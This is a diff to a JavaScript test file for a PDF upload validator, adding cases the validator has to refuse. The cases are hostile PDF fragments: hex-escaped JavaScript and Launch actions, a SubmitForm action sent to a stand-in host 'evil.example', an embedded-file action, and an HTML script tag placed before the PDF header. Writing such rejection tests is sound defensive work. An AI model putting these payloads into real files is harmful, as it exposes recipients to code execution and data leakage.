@@ -11,6 +11,11 @@ it.each([
   ['a head that comes too late', Buffer.concat([Buffer.alloc(2000), pdf()]), /no whole PDF/],
   ['a script', pdf('<< /S /JavaScript /JS (app.alert(1)) >>'), /carries a program/],
   ['a file that starts another', pdf('<< /S /Launch /F (cmd.exe) >>'), /carries a program/],
+  ['a script whose name is spelled with a code', pdf('<< /S /J#61vaScript >>'), /carries a program/],
+  ['a start of another file spelled with a code', pdf('<< /S /L#61unch >>'), /carries a program/],
+  ['a form that is sent away', pdf('<< /S /SubmitForm /F (https://evil.example) >>'), /carries a program/],
+  ['a file within it that is opened', pdf('<< /S /GoToE >>'), /carries a program/],
+  ['a page in front of the PDF', Buffer.concat([Buffer.from('<script>alert(1)</script>'), pdf()]), /no whole PDF/],
   ['one that is too large', Buffer.concat([pdf(), Buffer.alloc(mostBytes), pdf()]), /10 MB/],
 ])('%s is refused, and why is said', (_, file, why) => {
   expect(paperError(file)).toMatch(why)
